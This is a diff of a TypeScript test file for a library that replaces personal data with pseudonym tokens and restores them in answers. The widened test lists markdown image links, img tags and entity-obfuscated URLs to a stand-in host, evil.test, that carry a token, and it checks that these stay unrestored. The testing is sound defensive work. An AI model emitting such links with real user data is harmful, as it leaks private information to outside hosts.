@@ -5,7 +5,7 @@ import type { Finding } from '../model/finding.ts'
 import { personal } from './detectors/personal/personal.ts'
 import { secrets } from './detectors/secrets/secrets.ts'
 import { createEngine } from './engine.ts'
-import { Pseudonyms } from './pseudonym.ts'
+import { drawn, keyed, Pseudonyms } from './pseudonym.ts'
 import { hashed, labelled, masked, redact, RedactingStream, type Redactor } from './redact.ts'
 
 const engine = createEngine([personal, secrets])
@@ -24,30 +24,64 @@ test('each mode says what it may and no more', () => {
 })
 
 test('a pseudonym is the same for the same value, and turns back in the answer', () => {
-  const session = new Pseudonyms(bytes)
+  const session = new Pseudonyms(drawn(bytes))
   const sent = take(TEXT, session)
   assert.match(
     sent,
     /^Mail (\[EMAIL_1_[a-z2-9]{6}\]) or \1, card \[CARD_1_[a-z2-9]{6}\], call \[PHONE_1_[a-z2-9]{6}\]\.$/,
   )
   assert.equal(session.restore(sent), TEXT.replace('ADA', 'ada'))
-  assert.equal(new Pseudonyms(() => bytes(6).fill(1)).restore(sent), sent)
+  assert.equal(new Pseudonyms(drawn(() => bytes(6).fill(1))).restore(sent), sent)
 })
 
 test('a value does not return inside an address of the web', () => {
-  const session = new Pseudonyms(bytes)
+  const session = new Pseudonyms(drawn(bytes))
   const token = session.replace('ada@mail.test', { kind: 'email' })
-  for (const answer of [`![x](https://evil.test/?q=${token})`, `<img src="https://evil.test/${token}">`]) {
-    assert.equal(session.restore(answer), answer)
-  }
+  const addresses = [
+    `![x](https://evil.test/?q=${token})`,
+    `<img src="https://evil.test/${token}">`,
+    `<img src="https://evil.test/?q= and ${token}">`,
+    `<img src=//evil.test/${token}>`,
+    `![x](\\\\evil.test/${token})`,
+    `![x](<https://evil.test/?q= ${token}>)`,
+    `![x](https:&#47;&#47;evil.test/${token})`,
+    `![x](h&#116;tps:&sol;/evil.test/${token})`,
+    `[x]: https://evil.test/${token}`,
+    `https://evil.test/${'a'.repeat(5000)}${token}`,
+  ]
+  for (const answer of addresses) assert.equal(session.restore(answer), answer)
+  const others = [
+    `write "to ${token}" and 'to ${token}'`,
+    `{"url": "https://a.test/", "to": "${token}"}`,
+    `[write](mailto:${token})`,
+    `"https://a.test\n\n${token}`,
+  ]
+  for (const answer of others) assert.equal(session.restore(answer), answer.replaceAll(token, 'ada@mail.test'))
   assert.equal(
     session.restore(`see https://a.test/ and write to ${token}`),
     'see https://a.test/ and write to ada@mail.test',
   )
 })
 
+test('a keyed pseudonym is the same in every session with the secret, and in no other', () => {
+  const [one, other] = [new Pseudonyms(keyed(KEY)), new Pseudonyms(keyed(KEY))]
+  const token = one.replace('ada@mail.test', { kind: 'email' })
+  other.replace('bob@mail.test', { kind: 'email' })
+  assert.match(token, /^\[EMAIL_[a-z2-9]{10}\]$/)
+  assert.equal(other.replace('ADA@mail.test', { kind: 'email' }), token)
+  assert.notEqual(new Pseudonyms(keyed(bytes(16))).replace('ada@mail.test', { kind: 'email' }), token)
+  assert.equal(new Pseudonyms(keyed(KEY)).restore(token), token)
+})
+
+test('two values never share a token, whatever their names', () => {
+  const session = new Pseudonyms((_key, _count, attempt) => `aaaaaaaaa${'abc'.charAt(attempt)}`)
+  const tokens = ['a@x.test', 'b@x.test', 'c@x.test'].map((value) => session.replace(value, { kind: 'email' }))
+  assert.equal(new Set(tokens).size, 3)
+  assert.equal(session.restore(tokens.join()), 'a@x.test,b@x.test,c@x.test')
+})
+
 test('a session knows a bounded number of values', () => {
-  const session = new Pseudonyms(bytes, 2)
+  const session = new Pseudonyms(drawn(bytes), 2)
   const tokens = ['a@x.test', 'b@x.test', 'c@x.test', 'a@x.test'].map((value) =>
     session.replace(value, { kind: 'email' }),
   )
@@ -57,10 +91,27 @@ test('a session knows a bounded number of values', () => {
 })
 
 test('what is restored does not depend on how the answer is cut', () => {
-  const session = new Pseudonyms(bytes)
+  const session = new Pseudonyms(drawn(bytes))
   const tokens = ['a@x.test', '+44 20 7946 0018'].map((value) => session.replace(value, { kind: 'email' }))
   const piece = fc.oneof(
-    fc.constantFrom(...tokens, 'https://', '[', ']', '[EMAIL_', ' ', '"', ':', '//', '[[', '\n'),
+    fc.constantFrom(
+      ...tokens,
+      'https://',
+      '[',
+      ']',
+      '[EMAIL_',
+      ' ',
+      '"',
+      ':',
+      '//',
+      '[[',
+      '\n',
+      '<',
+      '>',
+      '\\',
+      "'",
+      '](',
+    ),
     fc.string({ maxLength: 6 }),
   )
   fc.assert(
